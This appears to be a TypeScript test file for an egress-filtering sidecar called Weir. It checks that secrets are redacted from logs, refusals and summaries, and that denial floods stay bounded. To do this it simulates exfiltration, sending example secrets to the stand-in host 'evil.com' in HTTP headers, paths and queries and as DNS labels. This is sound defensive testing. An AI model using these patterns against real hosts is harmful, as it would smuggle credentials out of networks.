/** No secret that Weir can find gets into the log, a refusal or the summary by way of Weir itself, wherever it stood. */
import dgram from 'node:dgram';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import net, { type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import tls from 'node:tls';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Channel, Event, HttpMatch, Protocol, RuntimePolicy, RuntimeRule } from '../../../crds/runtime.ts';
import { Counters } from '../../../sidecar/audit/counters.ts';
import { BURST_LINES, MAX_DOMAINS } from '../../../sidecar/audit/limiter.ts';
import { createLog, type Log } from '../../../sidecar/audit/log.ts';
import { CUT } from '../../../sidecar/audit/redact.ts';
import { shownEvent } from '../../../sidecar/audit/shown.ts';
import { Summary } from '../../../sidecar/audit/summary.ts';
import { NameBudget } from '../../../sidecar/dns/budget.ts';
import { decodeResponse } from '../../../sidecar/dns/codec.ts';
import { Expansions } from '../../../sidecar/dns/expansions.ts';
import { createDnsService } from '../../../sidecar/dns/service.ts';
import { SyntheticAddresses } from '../../../sidecar/dns/synthetic.ts';
import { TYPE } from '../../../sidecar/dns/wire.ts';
import { DETECTORS } from '../../../sidecar/inspect/detectors/index.ts';
import { createInspector } from '../../../sidecar/inspect/index.ts';
import { type Plane, start } from '../../../sidecar/plane.ts';
import { Budgets, PolicyEngine } from '../../../sidecar/policy/index.ts';
import { plainEgress } from '../../../sidecar/tcp/egress.ts';
import { listenOn } from '../../../sidecar/tcp/listener.ts';
import type { Endpoint } from '../../../sidecar/tcp/types.ts';
import { Authority } from '../../../sidecar/tls/authority.ts';
import { ask, labels } from '../dns/support.ts';

/** Characters of a secret whose appearance is a leak. */
const RUN = 8;
const PLAIN = 'plain.test';
const SECURE = 'secure.test';
const WILD = 'wild.test';
const REFUSAL = new SyntheticAddresses().refusal.v4;

function rule(id: string, host: string, protocol: Protocol, match: HttpMatch): RuntimeRule {
  return {
    id: `p/${id}`,
    origin: { kind: 'EgressPolicy', namespace: 'ci', policy: 'p', rule: id },
    protocol,
    hosts: [{ name: host, wildcard: id === 'wild' }],
    ports: [protocol === 'HTTP' ? 80 : 443],
    addressScope: 'Public',
    http: [[match]],
    limits: {},
  };
}

const OK: HttpMatch = { methods: ['GET', 'PUT'], paths: ['/ok'], contentTypes: ['text/plain'] };
const POLICY: RuntimePolicy = {
  schema: 1,
  hash: 'x',
  mode: 'Enforce',
  policies: ['ci/p'],
  rules: [rule('plain', PLAIN, 'HTTP', OK), rule('secure', SECURE, 'HTTPS', OK), rule('wild', WILD, 'HTTPS', OK)],
  dns: { queryTypes: ['A'], denied: 'Explain', budget: 1_000_000 },
  content: { disabledDetectors: [], homeHosts: [], maxRefusals: 1_000_000, suppressions: [] },
};

let policy = POLICY;
let usePolicy: (now: RuntimePolicy) => void = () => {};
let plane: Plane;
let directory: string;
let log: Log;
let events: Event[] = [];
let told: (() => void) | undefined;
let destination: Endpoint = { address: REFUSAL, port: 80 };
let listener: net.Server;
let dnsServer: dgram.Socket;
const addresses = new Map<string, string>();

beforeAll(async () => {
  directory = mkdtempSync(path.join(tmpdir(), 'weir-secrets-'));
  listener = await listenOn('127.0.0.1', 0);
  dnsServer = dgram.createSocket('udp4').bind(0, '127.0.0.1');
  await once(dnsServer, 'listening');
  plane = start({
    listeners: { tcp: [listener], dnsTcp: [], dnsUdp: [dnsServer] },
    originalDestination: () => destination,
    egress: plainEgress(),
    nameservers: [],
    // Loopback is in no scope: what is allowed is refused when it is dialled, and told like everything else.
    staticHosts: new Map([PLAIN, SECURE, `a.${WILD}`].map((host) => [host, ['127.0.0.1']])),
    policySource: {
      get current() {
        return policy;
      },
      subscribe(listener) {
        usePolicy = (now) => {
          policy = now;
          listener(now);
        };
        return () => {};
      },
    },
    authority: await Authority.create(),
    roots: [],
    emit: (event) => {
      events.push(event);
      told?.();
    },
    facts: { searchDomains: [], hasIpv6Route: false },
  });
  for (const host of [PLAIN, SECURE]) addresses.set(host, (await lookUp(host)) ?? '');
});
afterAll(async () => {
  await plane.close();
  rmSync(directory, { recursive: true });
});

/** Resolves when something was told since `events` was emptied. */
async function anEvent(): Promise<void> {
  if (events.length > 0) return;
  await new Promise<void>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error('nothing was told')), 4000);
    told = () => {
      clearTimeout(timer);
      resolve();
    };
  });
  told = undefined;
}

async function lookUp(host: string): Promise<string | undefined> {
  const client = dgram.createSocket('udp4');
  client.send(ask(host), (dnsServer.address() as AddressInfo).port, '127.0.0.1');
  const [message] = await once(client, 'message');
  client.close();
  const reply = decodeResponse(message, { id: 0x1234, labels: labels(host), type: TYPE.A }, true);
  return reply.kind === 'reply' ? reply.answers[0]?.rdata.join('.') : undefined;
}

interface Attempt {
  to: string;
  sni?: string;
  /** The client does not take our certificate. */
  distrusts?: boolean;
  request?: string;
}

/** What came back on one connection, to its end. */
async function attempt({ to, sni, distrusts = false, request }: Attempt): Promise<string> {
  destination = { address: to, port: sni === undefined ? 80 : 443 };
  const raw = net.connect((listener.address() as AddressInfo).port, '127.0.0.1');
  const socket =
    sni === undefined
      ? raw
      : tls.connect({ socket: raw, servername: sni, rejectUnauthorized: distrusts, ALPNProtocols: ['http/1.1'] });
  let received = '';
  socket.on('data', (chunk) => {
    received += chunk.toString('latin1');
  });
  socket.on('error', () => {});
  raw.on('error', () => {});
  if (request !== undefined) socket.write(Buffer.from(request, 'latin1'));
  await new Promise((resolve) => raw.once('close', resolve));
  await anEvent();
  return received;
}

const http = (target: string, host: string, more = ''): string =>
  `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${more}\r\n`;

const inspector = createInspector();

async function isFound(channel: Channel, text: string): Promise<boolean> {
  const inspection = inspector.session('').open({ body: 'http.body', contentEncoding: [] });
  const step = await inspection.field(channel, 'x', Buffer.from(text, 'latin1'));
  return step.findings.length > 0;
}

/** The secret as a host under `domain`, in labels; undefined where it cannot be one. */
function hostOf(secret: string, domain: string): string | undefined {
  if (!/^[A-Za-z0-9_-]+$/.test(secret) || secret.length > 200) return undefined;
  return [...(secret.match(/.{1,11}/g) ?? []), domain].join('.').toLowerCase();
}

const fold = (text: string): string => text.toLowerCase().replaceAll('.', '');

/** Runs of the secret that are in the text, in the letters given and percent-encoded, and say more than `known`. */
function leaked(text: string, secret: string, known: readonly string[]): string[] {
  const folded = fold(text);
  const runs = new Set<string>();
  for (const wanted of [fold(secret), fold(encodeURIComponent(secret))]) {
    for (let at = 0; at + RUN <= wanted.length; at++) {
      const run = wanted.slice(at, at + RUN);
      // Indentation is no secret.
      if (/\s{2}/.test(run)) continue;
      if (folded.includes(run) && !known.some((host) => fold(host).includes(run))) runs.add(run);
    }
  }
  return [...runs];
}

/** Attempts with a secret at one place. `undefined`: it cannot stand there, or is not found there. */
const PLACES: Record<string, (secret: string) => Promise<(() => Promise<string>)[] | undefined>> = {
  'DNS name': (secret) => named(secret, (host) => [async () => (await lookUp(host)) ?? '']),
  SNI: (secret) =>
    named(secret, (host) => [
      () => attempt({ to: REFUSAL, sni: host, request: http('/', host) }),
      () => attempt({ to: REFUSAL, sni: host, request: 'nonsense\r\n\r\n' }),
      () => attempt({ to: REFUSAL, sni: host, distrusts: true }),
    ]),
  'SNI mismatch': (secret) =>
    named(secret, (host) => [
      () => attempt({ to: addresses.get(SECURE) ?? '', sni: host, request: http('/', host) }),
      () => attempt({ to: addresses.get(SECURE) ?? '', sni: host, distrusts: true }),
    ]),
  Host: (secret) => named(secret, (host) => [() => attempt({ to: REFUSAL, request: http('/', host) })]),
  'Host mismatch': (secret) =>
    named(secret, (host) => [
      () => attempt({ to: addresses.get(PLAIN) ?? '', request: http('/ok', host) }),
      () => attempt({ to: addresses.get(SECURE) ?? '', sni: SECURE, request: http('/ok', host) }),
    ]),
  path: (secret) => inTarget('http.path', secret, (text) => [`/${text}`, `/a/${text}/b?c=d`]),
  query: (secret) => inTarget('http.query', secret, (text) => [`/ok?${text}`, `/x?token=${text}&a=b`]),
  header: async (secret) => {
    // biome-ignore lint/suspicious/noControlCharactersInRegex: a header cannot have them.
    if (/[\x00-\x1f]/.test(secret) || !(await isFound('http.header', secret))) return undefined;
    return [
      () => attempt({ to: addresses.get(PLAIN) ?? '', request: http('/ok', PLAIN, `X-A: ${secret}\r\n`) }),
      () => attempt({ to: REFUSAL, request: http('/', 'evil.com', `X-A: ${secret}\r\n`) }),
    ];
  },
  'content type': async (secret) => {
    if (!/^[A-Za-z0-9_.-]+$/.test(secret) || !(await isFound('http.header', `x/${secret.toLowerCase()}`)))
      return undefined;
    const more = `Content-Type: x/${secret}\r\nContent-Length: 0\r\n`;
    return [PLAIN, undefined].map(
      (host) => () =>
        attempt({
          to: host === undefined ? REFUSAL : (addresses.get(host) ?? ''),
          request: http('/ok', host ?? 'evil.com', more),
        }),
    );
  },
};

async function named(secret: string, attempts: (host: string) => (() => Promise<string>)[]) {
  const all: (() => Promise<string>)[] = [];
  for (const domain of ['evil.com', WILD, 'com']) {
    const host = hostOf(secret, domain);
    if (host !== undefined && (await isFound('dns.name', host))) all.push(...attempts(host));
  }
  return all.length > 0 ? all : undefined;
}

async function inTarget(channel: Channel, secret: string, targets: (text: string) => string[]) {
  const text = encodeURIComponent(secret);
  if (!(await isFound(channel, text))) return undefined;
  return targets(text).flatMap((target) => [
    () => attempt({ to: addresses.get(PLAIN) ?? '', request: http(target, PLAIN) }),
    () => attempt({ to: REFUSAL, request: http(target, 'evil.com') }),
  ]);
}

describe('a name that was clean', () => {
  const value = 'k0rrekt4Pferd9Batterie';
  const host = `${value.toLowerCase()}.com`;
  const shownHost = async (): Promise<string | undefined> => {
    events = [];
    await lookUp(host);
    await anEvent();
    return events[0]?.host;
  };

  it('is not shown once it has a known secret in it, nor when a policy no longer lets that pass', async () => {
    const disabled = { ...POLICY, content: { ...POLICY.content, disabledDetectors: ['known-secret'] } };
    try {
      expect(await shownHost()).toBe(host);
      plane.setKnownSecrets([{ name: 'npm/token', value: Buffer.from(value), held: true }]);
      expect(await shownHost()).toBe(CUT);
      plane.setKnownSecrets([]);
      expect(await shownHost()).toBe(host);
      await plane.replaceKnownSecrets([{ name: 'npm/token', value: Buffer.from(value), held: true }]);
      expect(await shownHost()).toBe(CUT);
      usePolicy(disabled);
      expect(await shownHost()).toBe(host);
      usePolicy(POLICY);
      expect(await shownHost()).toBe(CUT);
    } finally {
      plane.setKnownSecrets([]);
      usePolicy(POLICY);
    }
  });
});

describe('a flood of denials', () => {
  it('makes a bounded number of lines, and every one is counted', async () => {
    const file = path.join(directory, 'flood');
    const flooded = createLog(file);
    const summary = new Summary();
    const counters = new Counters();
    const queries = 20_000;
    let answered = 0;
    const engine = new PolicyEngine(POLICY, new Budgets());
    const emit = (event: Event): void => {
      const shown = shownEvent(event, () => []);
      flooded.write(shown);
      summary.add(shown);
      counters.add(shown);
    };
    const handle = createDnsService({
      engine: () => engine,
      resolver: { resolve: () => Promise.reject(new Error('asked')), query: () => Promise.reject(new Error('asked')) },
      synthetic: new SyntheticAddresses(),
      budget: new NameBudget(),
      inspect: async () => [],
      ask: async () => [],
      emit,
      expansions: new Expansions(emit),
      facts: { searchDomains: [], hasIpv6Route: false },
    });
    for (let index = 0; index < queries; index++) {
      // Names of one domain, names of ever new ones, and names that are none.
      const host = [`h${index}.evil.com`, `a.d${index}.com`, `bad!${index}.com`][index % 3] as string;
      if (await handle(ask(host), 'udp')) answered++;
    }
    await flooded.close();
    const lines = readFileSync(file, 'utf8')
      .trimEnd()
      .split('\n')
      .map((line): Event => JSON.parse(line));
    expect(answered).toBe(queries);
    // Two reasons, each with its domains, those that share, and a counted line for all.
    expect(lines.length).toBeLessThanOrEqual(2 * (MAX_DOMAINS + 1) + 3 * (BURST_LINES + 1));
    expect(lines.reduce((sum, { repeated = 1 }) => sum + repeated, 0)).toBe(queries);
    expect(counters.total({ action: 'deny', layer: 'dns' })).toBe(queries);
    expect(summary.table()).toContain(`denied ${queries}`);
  });
});

/** Every so many-th detector is tried at one place; over the places it is most of them. */
const EVERY = 6;
const TIMEOUT_MS = 120_000;

describe.each(Object.entries(PLACES))('a secret as or in the %s', (place, attemptsAt) => {
  it('is in neither log, refusal nor summary', { timeout: TIMEOUT_MS }, async () => {
    const file = path.join(directory, place);
    let tried = 0;
    const turn = Object.keys(PLACES).indexOf(place);
    for (const { name, examples, homeHosts, literals } of DETECTORS.filter(
      (_, index) => index % EVERY === turn % EVERY,
    )) {
      for (const secret of examples(tried + 1).matching.slice(0, 2)) {
        for (const run of (await attemptsAt(secret)) ?? []) {
          events = [];
          log = createLog(file);
          const answer = await run();
          await anEvent();
          const summary = new Summary();
          for (const event of events) {
            log.write(event);
            summary.add(event);
          }
          await log.close();
          const shown = { answer, events, summary: summary.table(500), log: readFileSync(file, 'utf8') };
          // What every secret of a kind begins with is no secret, and may be in the name of its detector.
          const known = [`"${name}"`, ...homeHosts, ...literals];
          expect(leaked(JSON.stringify(shown), secret, known), JSON.stringify({ secret, answer, events })).toEqual([]);
          expect(events.some(({ action }) => action === 'deny')).toBe(true);
          rmSync(file);
          tried++;
        }
      }
    }
    // Most secrets cannot be written as a host name or media type; they can as anything else.
    expect(tried).toBeGreaterThan(10);
  });
});
